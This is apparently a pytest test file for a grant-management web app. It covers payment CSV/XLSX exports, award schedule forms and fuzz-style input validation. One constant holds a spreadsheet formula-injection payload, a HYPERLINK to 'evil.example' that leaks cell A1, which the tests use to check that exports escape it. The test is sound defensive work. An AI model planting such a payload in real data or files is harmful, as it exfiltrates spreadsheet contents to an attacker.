"""The payments downloads (CSV through the one CSV writer, XLSX through XlsxWriter) read back with
the same rows; the pages answer bad input at the field with what was typed kept, never a 500."""
from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from sqlalchemy import select

from grantflow.awards import models as M
from grantflow.awards import schedules
from grantflow.core.db import db, separate_session
from tests.awards.builders import award, pay, schedule

D = dt.date
PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def paid(world):
    w = world
    w.other_cbo.name = PAYLOAD
    award(w.application, 60_000_00)
    award(w.other_application, 12_345_67)
    a1, w.open_instalment = schedule(w.application, (30_000_00, D(2026, 1, 15), M.AGREEMENT_SIGNED, None),
                                     (30_000_00, D(2027, 7, 15)))
    schedules.agreement_signed(w.application)
    pay(a1, D(2026, 1, 20), reference="-ACH 7781")
    [b1] = schedule(w.other_application, (12_345_67, D(2026, 2, 1)))
    schedules.hold(b1, reason="Waiting for the W-9.")
    db.session.commit()
    return w


EXPECTED = [
    ["application_id", "organization", "instalment", "due_date", "amount", "status", "condition", "condition_met",
     "paid_date", "method", "reference", "reason", "award_amount", "schedule_adds_up"],
    ["1", "Eastside Tenants Union", "1 of 2", "2026-01-15", "30000.00", "paid", "on signing the agreement", "yes",
     "2026-01-20", "ACH transfer", "'-ACH 7781", "", "60000.00", "yes"],
    ["1", "Eastside Tenants Union", "2 of 2", "2027-07-15", "30000.00", "scheduled", "", "", "", "", "", "", "60000.00",
     "yes"],
    ["2", "'" + PAYLOAD, "1 of 1", "2026-02-01", "12345.67", "on hold", "", "", "", "", "", "Waiting for the W-9.",
     "12345.67", "yes"],
]


def test_csv_and_xlsx_read_back(any_app, paid, login):
    officer = login(paid.users["program_officer"])
    r = officer.get("/programs/health-2026/payments.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert list(csv.reader(io.StringIO(r.get_data(as_text=True)))) == EXPECTED
    r = officer.get("/programs/health-2026/payments.xlsx")
    assert r.status_code == 200 and r.headers["Content-Disposition"].endswith('payments.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(r.data)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == EXPECTED[0]
    assert rows[1] == [1, "Eastside Tenants Union", "1 of 2", dt.datetime(2026, 1, 15), 30000, "paid",
                       "on signing the agreement", "yes", dt.datetime(2026, 1, 20), "ACH transfer", "-ACH 7781", None,
                       60000, "yes"]
    # Text is text in XLSX: the organization's name is a string cell, never a formula.
    name = sheet.cell(row=4, column=2)
    assert name.value == PAYLOAD and name.data_type == "s"
    assert Decimal(str(sheet.cell(row=4, column=5).value)) == Decimal("12345.67")
    assert sheet.cell(row=2, column=5).number_format == "$#,##0.00"


def test_downloads_of_an_unknown_format_are_404(app, paid, login):
    assert login(paid.users["program_officer"]).get("/programs/health-2026/payments.pdf").status_code == 404


def _instalments(application_id):
    with separate_session() as s:
        return [(i.amount_cents, i.due_on) for i in s.execute(select(M.Instalment).where(
            M.Instalment.application_id == application_id).order_by(M.Instalment.due_on)).scalars()]


def test_the_schedule_page_refuses_a_total_at_the_field_and_keeps_what_was_typed(app, world, login):
    w = world
    award(w.application, 50_000_00)
    db.session.commit()
    officer = login(w.users["program_officer"])
    page = officer.get(f"/applications/{w.application.id}/award/schedule")
    assert page.status_code == 200 and 'name="rows-1-amount"' in page.get_data(as_text=True)
    r = officer.post(f"/applications/{w.application.id}/award/schedule", data={
        "action": "save", "rows-0-amount": "25,000", "rows-0-due_on": "2026-01-15", "rows-0-condition": "agreement_signed",
        "rows-1-amount": "24,999.99", "rows-1-due_on": "2026-07-15", "rows-1-condition": ""})
    assert r.status_code == 422
    html = r.get_data(as_text=True)
    assert 'id="rows-1-amount-error"' in html and "would add up to $49,999.99" in html and "$50,000.00" in html
    assert 'value="24,999.99"' in html and 'value="2026-07-15"' in html
    assert _instalments(w.application.id) == []
    r = officer.post(f"/applications/{w.application.id}/award/schedule", data={
        "action": "save", "rows-0-amount": "25,000", "rows-0-due_on": "2026-01-15", "rows-0-condition": "agreement_signed",
        "rows-1-amount": "25,000", "rows-1-due_on": "not a date", "rows-1-condition": "report:999"})
    assert r.status_code == 422
    html = r.get_data(as_text=True)
    assert "Enter a real date, like 2026-03-31." in html and "Not a valid choice" in html and 'value="not a date"' in html
    r = officer.post(f"/applications/{w.application.id}/award/schedule", data={
        "action": "save", "rows-0-amount": "25,000", "rows-0-due_on": "2026-01-15", "rows-0-condition": "agreement_signed",
        "rows-1-amount": "25,000", "rows-1-due_on": "2026-07-15", "rows-1-condition": ""})
    assert r.status_code == 302
    assert _instalments(w.application.id) == [(25_000_00, D(2026, 1, 15)), (25_000_00, D(2026, 7, 15))]


def test_spreading_from_the_page(app, world, login):
    w = world
    award(w.application, 30_000_00)
    db.session.commit()
    officer = login(w.users["program_officer"])
    r = officer.post(f"/applications/{w.application.id}/award/schedule", data={
        "action": "spread", "spread-first_due": "2026-03-01", "spread-years": "nine", "spread-per_year": "2"})
    assert r.status_code == 422 and "Enter a whole number, like 2." in r.get_data(as_text=True)
    r = officer.post(f"/applications/{w.application.id}/award/schedule", data={
        "action": "spread", "spread-first_due": "2026-03-01", "spread-years": "3", "spread-per_year": "1",
        "spread-first_condition": ""})
    assert r.status_code == 302
    assert _instalments(w.application.id) == [(10_000_00, D(2026, 3, 1)), (10_000_00, D(2027, 3, 1)),
                                              (10_000_00, D(2028, 3, 1))]


def test_recording_a_payment_from_the_page(app, world, login):
    w = world
    award(w.application, 8_000_00)
    [only] = schedule(w.application, (8_000_00, D(2026, 1, 15)))
    db.session.commit()
    officer = login(w.users["program_officer"])
    url = f"/instalments/{only.id}"
    assert officer.get(url).status_code == 200
    r = officer.post(url, data={"action": "pay", "pay-paid_on": "2099-01-01", "pay-method": "", "pay-reference": "Check 88"})
    assert r.status_code == 422
    html = r.get_data(as_text=True)
    assert 'id="pay-paid_on-error"' in html and "cannot be in the future" in html and 'id="pay-method-error"' in html
    assert 'value="Check 88"' in html
    assert officer.post(url, data={"action": "explode"}).status_code == 422
    r = officer.post(url, data={"action": "pay", "pay-paid_on": "2026-01-16", "pay-method": "check",
                                "pay-reference": "Check 88"})
    assert r.status_code == 302
    db.session.expire_all()
    assert (db.session.get(M.Instalment, only.id).status, db.session.get(M.Instalment, only.id).reference) == ("paid", "Check 88")
    page = officer.get(f"/applications/{w.application.id}/award").get_data(as_text=True)
    assert "Payment recorded by Pat Officer" in page


def test_award_pages_of_an_application_that_is_not_an_award_are_404(app, world, login):
    officer = login(world.users["program_officer"])
    assert officer.get(f"/applications/{world.application.id}/award").status_code == 404
    assert officer.get(f"/applications/{world.application.id}/award/schedule").status_code == 404


def test_the_grantee_sees_upcoming_payments_and_reports_on_the_dashboard(app, world, login):
    from tests.awards.builders import report

    w = world
    award(w.application, 20_000_00)
    interim = report(w.application, "interim", D(2027, 1, 31))
    first, _ = schedule(w.application, (10_000_00, D(2026, 1, 15)), (10_000_00, D(2027, 2, 28), M.REPORT_ACCEPTED, interim.id))
    pay(first)
    db.session.commit()
    html = login(w.users["applicant"]).get("/dashboard").get_data(as_text=True)
    assert 'id="grantee-payments"' in html and "$10,000.00" in html
    assert "after the interim report due January 31, 2027 is accepted" in html
    assert f'href="/reports/{interim.id}"' in html
    assert "Your grants" not in login(w.users["other_applicant"]).get("/dashboard").get_data(as_text=True)


def test_odd_input_gets_a_field_message_never_a_500(app, world, login):
    """What a fuzzer would send: far dates, huge numbers, unknown choices, ids that are not ids."""
    from tests.awards.builders import report

    w = world
    award(w.application, 10_000_00)
    interim = report(w.application, "interim", D(2026, 6, 30))
    [only] = schedule(w.application, (10_000_00, D(2026, 1, 15)))
    db.session.commit()
    officer = login(w.users["program_officer"])
    base = f"/applications/{w.application.id}/award"
    posts = [
        (base + "/schedule", {"action": "spread", "spread-first_due": "9999-12-31", "spread-years": "5",
                              "spread-per_year": "12"}),
        (base + "/schedule", {"action": "spread", "spread-years": "99999999999999999999", "spread-per_year": "x"}),
        (base + "/schedule", {"rows-0-id": "abc", "rows-0-amount": "1e400", "rows-0-due_on": "0001-01-01",
                              "rows-0-condition": "report:x", "rows-99999999999999999999-amount": "5"}),
        (base + "/schedule", {"rows-0-id": str(only.id), "rows-0-amount": "10,000", "rows-0-due_on": "9999-12-31",
                              "rows-0-condition": ""}),
        (base + "/reports", {"kind": "final", "due_on": "9999-12-31"}),
        (base + "/reports", {"kind": "quarterly", "due_on": ""}),
        (base, {"schedule_h": "part9_99"}),
        (f"/instalments/{only.id}", {"action": "cancel", "cancel-reason": "x", "cancel-move_to": "999999"}),
        (f"/instalments/{only.id}", {"action": "pay", "pay-paid_on": "1066-10-14", "pay-method": "ach"}),
        (f"/award-reports/{interim.id}", {"action": "conversation", "talk-held_on": "0001-01-01", "talk-notes": "Hi"}),
        (f"/award-reports/{interim.id}", {"action": "review", "review-decision": "maybe"}),
        ("/programs/health-2026/payments", {"schedule_h": ""}),
    ]
    for url, data in posts:
        r = officer.post(url, data=data)
        assert r.status_code == 422, (url, data, r.status_code)
    for url in ("/funders/riverside/schedule-h?year=-1", "/funders/riverside/chna-report?year=1e309",
                "/funders/riverside/schedule-h/part1_7i?year=99999999999999999999999"):
        assert officer.get(url).status_code == 422, url
    assert officer.get("/programs/health-2026/payments.xlsx").status_code == 200


def test_the_officer_sees_what_is_due_late_or_on_hold_across_programs(any_app, world, login):
    """The funder's overview lists every program's awards (never another funder's)."""
    from tests import factories as F
    from tests.awards.builders import report

    w = world
    housing = F.program(w.funder, slug="housing-2026", title="Housing 2026")
    second = F.application(housing, w.other_cbo)
    elsewhere = F.application(w.other_program, F.cbo(name="Hilltop Neighbors"))
    award(w.application, 10_000_00)
    award(second, 6_000_00)
    award(elsewhere, 4_000_00)
    schedule(w.application, (10_000_00, D(2026, 1, 15)))                    # due: its date has come
    report(w.application, "interim", D(2026, 6, 30))                         # not filed: overdue
    [held] = schedule(second, (6_000_00, D(2026, 2, 1)))
    schedules.hold(held, reason="Waiting for the W-9.")
    schedule(elsewhere, (4_000_00, D(2026, 1, 15)))
    db.session.commit()
    html = login(w.users["program_officer"]).get("/funders/riverside/payments").get_data(as_text=True)

    def table(id_):
        return html.split(f'<table id="{id_}">', 1)[1].split("</table>", 1)[0]

    due, hold, late = table("payments-due"), table("payments-on-hold"), table("reports-late")
    assert "Eastside Tenants Union" in due and "Community Health 2026" in due and "$10,000.00" in due
    assert "Northside Food Collective" in hold and "Housing 2026" in hold and "Waiting for the W-9." in hold
    assert "Interim report due June 30, 2026" in late and "overdue" in late
    assert "Hilltop Neighbors" not in html
    assert login(w.users["other_officer"]).get("/funders/riverside/payments").status_code in (403, 404)
